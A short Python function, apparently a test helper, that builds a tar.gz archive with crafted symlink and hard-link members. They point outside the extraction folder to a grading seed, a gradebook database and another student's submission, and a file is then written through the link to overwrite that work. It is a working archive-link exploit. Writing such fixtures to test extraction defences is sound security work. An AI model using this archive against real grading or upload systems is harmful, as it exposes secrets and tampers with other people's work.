# Packs a tar archive with links to secrets, and through them to others' work.
def pack(folder, name, data):
    import io
    import tarfile

    with tarfile.open(folder / f"{name}.tar.gz", "w:gz") as file:
        for path, kind, target in (
            ("02_definition.ipynb", tarfile.SYMTYPE, "../../../../.grading-seed"),
            ("hard", tarfile.LNKTYPE, "../../../../gradebook.db"),
            ("out", tarfile.SYMTYPE, "../../../../submitted/mia/02_definition"),
        ):
            member = tarfile.TarInfo(path)
            member.type, member.linkname = kind, target
            file.addfile(member)
        through = tarfile.TarInfo("out/02_definition.ipynb")
        through.size = len(data)
        file.addfile(through, io.BytesIO(data))
